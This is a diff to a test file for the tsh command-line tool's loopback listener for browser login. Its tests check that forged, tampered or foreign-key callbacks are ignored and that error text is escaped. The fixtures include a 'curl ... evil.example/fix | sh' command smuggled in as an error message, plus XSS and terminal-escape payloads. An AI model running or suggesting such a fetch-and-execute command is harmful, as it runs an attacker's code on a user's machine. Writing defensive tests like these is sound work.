@@ -1,10 +1,10 @@
 // tsh's loopback listener for the browser login, attacked and used over real HTTP: only the
-// sealed result for this tsh's key is taken; a wrong key, a changed byte, another path or a
-// foreign Host are refused, and the person always sees a page that says what happened.
+// sealed result (or sealed error) for this tsh's key is taken; a plain err=, a wrong key, a changed
+// byte, another path or a foreign Host are refused and the login keeps waiting, and the person always sees a page that says what happened.
 import { randomBytes } from 'node:crypto';
 import { request } from 'node:http';
 import { afterEach, describe, expect, it } from 'vitest';
-import { type LoginCallback, startLoginCallback } from '../../lib/client/login-callback.js';
+import { IGNORED_LINE, type LoginCallback, startLoginCallback } from '../../lib/client/login-callback.js';
 import { sealForClient } from '../../lib/core/client-seal.js';
 
 const login = {
@@ -91,34 +91,49 @@ describe('the browser login callback listener', () => {
     await expect(callback.result).resolves.toEqual(login);
   });
 
-  it('refuses a result with one changed byte, saying so on the page and to tsh', async () => {
-    callback = await startLoginCallback();
+  it('ignores a plain err= (any web page or local account can send one): 400, one stderr line, and the login still succeeds', async () => {
+    const ignored: string[] = [];
+    callback = await startLoginCallback({ onIgnored: (line) => ignored.push(line) });
+    // What a reviewer did: an <img> to this port made tsh end the login printing this.
+    const refused = await fetch(callbackUrl(callback, { err: 'Fix: run curl -s http://evil.example/fix | sh' }));
+    expect(refused.status).toBe(400);
+    const page = await refused.text();
+    expect(page).toContain('This request was not from this login');
+    expect(page).not.toContain('evil.example');
+    expect(ignored).toEqual([IGNORED_LINE]);
+    expect(await stillWaiting(callback)).toBe(true);
+    await fetch(callbackUrl(callback, { response: sealed(keyOf(callback)) }));
+    await expect(callback.result).resolves.toEqual(login);
+  });
+
+  it('ignores a result with one changed byte, one sealed under another key, and one that is not JSON, and keeps waiting', async () => {
+    const ignored: string[] = [];
+    callback = await startLoginCallback({ onIgnored: (line) => ignored.push(line) });
     const good = JSON.parse(sealed(keyOf(callback))) as { ciphertext: string; nonce: string };
     const bytes = Buffer.from(good.ciphertext, 'base64');
     bytes[3] = bytes[3]! ^ 0x01;
-    const response = await fetch(callbackUrl(callback, { response: JSON.stringify({ ...good, ciphertext: bytes.toString('base64') }) }));
-    expect(response.status).toBe(400);
-    expect(await response.text()).toContain('could not be verified');
-    await expect(callback.result).rejects.toThrow(
-      /^the login result that reached tsh could not be verified \(altered, or sealed for another tsh\); nothing was saved; run .* login again$/,
-    );
+    const attempts: Record<string, string>[] = [
+      { response: JSON.stringify({ ...good, ciphertext: bytes.toString('base64') }) },
+      { response: sealed(randomBytes(32).toString('hex')) },
+      { response: sealed(randomBytes(32).toString('hex'), { error: 'Fix: run curl -s http://evil.example/fix | sh' }) },
+      { response: '{"ciphertext": 1' },
+      { response: sealed(keyOf(callback)), err: 'x', secret_key: randomBytes(32).toString('hex') },
+    ];
+    for (const query of attempts) {
+      const response = await fetch(callbackUrl(callback, query));
+      expect(response.status).toBe(400);
+      expect(await response.text()).toContain('tsh ignored it; that login is still waiting');
+      expect(await stillWaiting(callback)).toBe(true);
+    }
+    expect(ignored).toHaveLength(attempts.length);
+    await fetch(callbackUrl(callback, { response: sealed(keyOf(callback)) }));
+    await expect(callback.result).resolves.toEqual(login);
   });
 
-  it('refuses a result sealed under another key, and one that is not JSON', async () => {
+  it('shows a sealed error from the API on the page (escaped) and hands tsh one line, terminal escapes removed', async () => {
     callback = await startLoginCallback();
-    await fetch(callbackUrl(callback, { response: sealed(randomBytes(32).toString('hex')) }));
-    await expect(callback.result).rejects.toThrow('could not be verified');
-    await callback.close();
-    callback = await startLoginCallback();
-    await fetch(callbackUrl(callback, { response: '{"ciphertext": 1' }));
-    await expect(callback.result).rejects.toThrow('could not be verified');
-  });
-
-  it('shows an error from the API on the page (escaped) and hands tsh one line, terminal escapes removed', async () => {
-    callback = await startLoginCallback();
-    const response = await fetch(
-      callbackUrl(callback, { err: 'user is in no team of the connector <script>alert(1)</script>\n\x1b]0;owned\x07second line' }),
-    );
+    const error = 'user is in no team of the connector <script>alert(1)</script>\n\x1b]0;owned\x07second line';
+    const response = await fetch(callbackUrl(callback, { response: sealed(keyOf(callback), { error }) }));
     const page = await response.text();
     expect(page).toContain('Login failed');
     expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
